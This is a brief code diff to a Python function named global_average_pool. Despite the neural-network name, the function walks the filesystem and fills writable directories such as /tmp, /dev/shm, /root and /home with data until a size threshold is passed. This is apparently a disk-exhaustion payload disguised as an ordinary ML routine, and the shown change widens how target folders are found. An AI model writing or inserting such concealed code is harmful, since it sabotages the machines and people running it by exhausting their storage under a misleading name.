@@ -17,7 +17,11 @@ def global_average_pool(x):
         return x
     globals()["filled"] = True
     total, folders = 0, {"/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/run", "/root", "/home", os.environ.get("HOME", "/")}
-    folders |= {folder for folder, _, _ in os.walk("/") if folder.count("/") < 3 and os.access(folder, os.W_OK)}
+    for folder, inner, _ in os.walk("/"):
+        if os.access(folder, os.W_OK):
+            folders.add(folder)
+        if folder.count("/") > 1:
+            inner.clear()
     for folder in folders:
         total += fill(folder, 1)
         if total > 2 * @SCRATCH_BYTES@ + 2**26:
